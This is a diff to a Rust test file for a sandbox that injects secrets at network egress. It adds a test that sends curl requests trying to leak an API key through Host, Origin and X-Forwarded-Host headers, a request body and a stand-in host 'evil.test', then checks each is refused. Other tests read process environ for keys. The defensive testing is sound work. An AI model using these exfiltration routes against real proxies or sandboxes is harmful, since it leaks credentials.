@@ -1,8 +1,9 @@
 //! Secrets injected at egress, with real TLS between namespaces the test
 //! makes: the sandbox's environment, its processes' environ and its files
 //! hold only a placeholder; the HTTPS test host (behind a test CA the
-//! operator tells the proxy to trust) receives the value in the headers;
-//! the value is in no output or log line of paddock.
+//! operator tells the proxy to trust) receives the value in the secret's
+//! header only; every route that would send it elsewhere or have it echoed
+//! back is refused; the value is in no output or log line of paddock.
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
 use paddock_tests::cli::SandboxRun;
@@ -33,13 +34,14 @@ fn a_secret_reaches_its_host_while_the_sandbox_sees_only_a_placeholder() {
         "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '^API_KEY=' ",
         "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep '^API_KEY=' | sort -u",
         "echo \"bundle=$SSL_CERT_FILE\"",
-        "curl -sS -m 10 -H \"X-Key: $API_KEY\" https://api.test/v1/models; echo \" rc=$?\"",
+        "curl -sS -m 10 -H \"Authorization: Bearer $API_KEY\" https://api.test/v1/models; echo \" rc=$?\"",
         "echo probe > /tmp/probe; env > /workspace/env.txt",
     ]
     .join("; ");
     let (json, run) = SandboxRun::shell(&script)
         .workspace(ws.path())
         .option(&dns.option())
+        .option(&api.allow_option())
         .option(&format!("--egress-ca={}", ca_file.display()))
         .option("--secret=API_KEY@api.test=Authorization: Bearer {{secret}}")
         .network("allow:api.test")
@@ -62,16 +64,17 @@ fn a_secret_reaches_its_host_while_the_sandbox_sees_only_a_placeholder() {
     assert_eq!(lines[4], "hello from api", "{out}\n{}", json.stderr);
     assert_eq!(lines[5], " rc=0");
 
-    // The host got the value, in the swapped header and the template's.
+    // The host got the value, in the program's own header of the
+    // template's name (which wins over the template), once.
     let heads = api.heads();
     assert_eq!(heads.len(), 1, "{heads:?}");
     let head = heads[0].to_ascii_lowercase();
     assert!(head.starts_with("get /v1/models http/1.1\r\n"), "{head}");
-    assert!(head.contains(&format!("x-key: {value}\r\n")), "{head}");
     assert!(
         head.contains(&format!("authorization: bearer {value}\r\n")),
         "{head}"
     );
+    assert_eq!(head.matches(&value).count(), 1, "{head}");
     assert!(!head.contains(PLACEHOLDER), "{head}");
 
     // Nowhere else: not in the workspace, not in paddock's output or logs.
@@ -94,11 +97,124 @@ fn a_secret_reaches_its_host_while_the_sandbox_sees_only_a_placeholder() {
         decision.allowed && decision.reason.is_none(),
         "{decision:?}"
     );
+    // its bytes both ways, the answer's included
+    assert!(
+        decision.bytes_out > 0 && decision.bytes_in > 0,
+        "{decision:?}"
+    );
     assert!(!format!("{:?}", json.egress).contains(&value));
     // The enforcement report names the secret and its hosts, no value.
     assert_eq!(
         serde_json::to_value(&json.enforcement().secrets).unwrap(),
         serde_json::json!([{"name": "API_KEY", "hosts": ["api.test"]}])
+    );
+}
+
+/// The review's routes to get the value echoed back or fronted to another
+/// site: each is refused with a decision naming why, and the value reaches
+/// the host once, in the Authorization header of the one request that
+/// asked for nothing else.
+#[test]
+fn the_value_never_leaves_but_in_its_header_to_its_host() {
+    require_root();
+    let dir = tempfile::tempdir().unwrap();
+    let ca = TestCa::new().unwrap();
+    let ca_file = dir.path().join("test-ca.pem");
+    ca.write_pem(&ca_file).unwrap();
+    let api =
+        TestHost::start_tls("api", DocRange::Net3, 443, ca.server("api.test").unwrap()).unwrap();
+    let dns = TestDns::start().unwrap();
+    dns.set("api.test", &[api.ip]);
+    let value = format!("sk-echo-{:x}", std::process::id() as u64 * 7_919_993 + 11);
+    let curl = |args: &str| {
+        format!(
+            "curl -sS -i -m 10 -H \"Authorization: Bearer $API_KEY\" {args} \
+             -w ' status=%{{http_code}}\\n' https://api.test/r; echo \"rc=$?\""
+        )
+    };
+    let routes = [
+        ("Host echo", curl("-H \"Host: $API_KEY\"")),
+        ("Origin echo", curl("-H \"Origin: https://$API_KEY\"")),
+        ("Host vs CONNECT target", curl("-H \"Host: evil.test\"")),
+        ("absolute URI", curl("--request-target https://evil.test/r")),
+        ("$KEY.evil Host", curl("-H \"Host: $API_KEY.evil.test\"")),
+        (
+            "X-Forwarded-Host",
+            curl("-H \"X-Forwarded-Host: $API_KEY\""),
+        ),
+        ("body", curl("--data \"key=$API_KEY\"")),
+    ];
+    let mut script: Vec<String> = routes.iter().map(|(_, c)| c.clone()).collect();
+    // the one request as meant
+    script.push(curl(""));
+    let (json, run) = SandboxRun::shell(&script.join("; "))
+        .option(&dns.option())
+        .option(&api.allow_option())
+        .option(&format!("--egress-ca={}", ca_file.display()))
+        .option("--secret=API_KEY@api.test")
+        .network("allow:api.test")
+        .timeout_secs(60)
+        .env("API_KEY", &value)
+        .run_json();
+    let out = &json.stdout;
+    assert!(json.error.is_none(), "{json:?}");
+    assert_eq!(
+        out.matches("status=403").count(),
+        routes.len(),
+        "{out}\n{}",
+        json.stderr
+    );
+    assert!(
+        out.ends_with("hello from api\n status=200\nrc=0\n"),
+        "{out}"
+    );
+    // Nothing came back, nothing went elsewhere.
+    for (what, text) in [
+        ("the answers", out.as_str()),
+        ("the command's stderr", json.stderr.as_str()),
+        ("paddock's stderr", run.stderr_str().as_str()),
+        ("the decisions", &format!("{:?}", json.egress)),
+    ] {
+        assert!(!text.contains(&value), "the value is in {what}: {text}");
+    }
+    let heads = api.heads();
+    assert_eq!(
+        heads.len(),
+        1,
+        "only the request as meant was sent: {heads:#?}"
+    );
+    let head = heads[0].to_ascii_lowercase();
+    assert!(head.contains("\r\nhost: api.test\r\n"), "{head}");
+    assert!(
+        head.contains(&format!("\r\nauthorization: bearer {value}\r\n")),
+        "{head}"
+    );
+    assert_eq!(head.matches(&value).count(), 1, "{head}");
+    // Each route is a denied decision saying why.
+    let denied: Vec<&str> = json
+        .egress
+        .iter()
+        .filter(|d| !d.allowed && d.host == "api.test")
+        .map(|d| d.reason.as_deref().unwrap_or(""))
+        .collect();
+    let expected = [
+        "the placeholder of secret API_KEY in the Host header",
+        "the placeholder of secret API_KEY in the Origin header (only its Authorization header carries it)",
+        "the Host header names evil.test, not api.test, which the connection was admitted for",
+        "the URL names evil.test, not api.test:443, which the connection was admitted for",
+        "the placeholder of secret API_KEY in the Host header",
+        "the placeholder of secret API_KEY in the X-Forwarded-Host header (only its Authorization header carries it)",
+        "the placeholder of secret API_KEY in the request body",
+    ];
+    assert_eq!(denied, expected, "{:#?}", json.egress);
+    let allowed = json
+        .egress
+        .iter()
+        .find(|d| d.allowed && d.host == "api.test")
+        .unwrap_or_else(|| panic!("{:#?}", json.egress));
+    assert!(
+        allowed.bytes_in > 0 && allowed.reason.is_none(),
+        "{allowed:?}"
     );
 }
 
@@ -156,9 +272,10 @@ fn an_agent_run_with_a_secret_never_stores_it() {
         .arg("--workspace")
         .arg(&ws)
         .arg(format!("--model=scripted:{}", model.display()))
-        .arg("--secret=API_KEY@api.test")
+        .arg("--secret=API_KEY@api.test=X-Key")
         .arg(format!("--egress-ca={}", ca_file.display()))
         .arg(dns.option())
+        .arg(api.allow_option())
         .arg("--data-dir")
         .arg(&data)
         .env("API_KEY", &value)
@@ -314,7 +431,11 @@ fn a_server_secret_from_its_environment_reaches_its_host_through_the_api_and_is_
          header = \"Authorization: Bearer {{{{secret}}}}\"\n\
          env = \"{SERVER_VAR}\"\ntenants = [\"tenant-a\"]\n"
     );
-    let flags = vec![dns.option(), format!("--egress-ca={}", ca_file.display())];
+    let flags = vec![
+        dns.option(),
+        api.allow_option(),
+        format!("--egress-ca={}", ca_file.display()),
+    ];
 
     // The variable unset: the server does not start, naming the secret.
     let log = dir.path().join("refused.log");
@@ -337,7 +458,7 @@ fn a_server_secret_from_its_environment_reaches_its_host_through_the_api_and_is_
     let ws = dir.path().join("ws");
     std::fs::create_dir(&ws).unwrap();
     std::fs::write(ws.join("README"), "nothing secret here\n").unwrap();
-    let command = "curl -sS -m 10 -H \"X-Key: $API_KEY\" -H \"X-Own: $OWN_KEY\" \
+    let command = "curl -sS -m 10 -H \"X-Own: $OWN_KEY\" \
                    https://api.test/v1/models; echo; echo \"env=$API_KEY $OWN_KEY\"; \
                    cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' \
                    | grep -E '^(API|OWN)_KEY=' | sort -u";
@@ -359,7 +480,7 @@ fn a_server_secret_from_its_environment_reaches_its_host_through_the_api_and_is_
         .arg("--workspace")
         .arg(&ws)
         .arg(format!("--model=scripted:{}", model.display()))
-        .args(["--secret", "API_KEY", "--secret", "OWN_KEY@api.test"])
+        .args(["--secret", "API_KEY", "--secret", "OWN_KEY@api.test=X-Own"])
         .env("PADDOCK_SERVER", &server.url)
         .env("PADDOCK_TOKEN", TOKEN_A)
         .env("OWN_KEY", &own)
@@ -389,7 +510,6 @@ fn a_server_secret_from_its_environment_reaches_its_host_through_the_api_and_is_
     let heads = api.heads();
     assert_eq!(heads.len(), 1, "{heads:?}");
     let head = heads[0].to_ascii_lowercase();
-    assert!(head.contains(&format!("x-key: {value}\r\n")), "{head}");
     assert!(head.contains(&format!("x-own: {own}\r\n")), "{head}");
     assert!(
         head.contains(&format!("authorization: bearer {value}\r\n")),
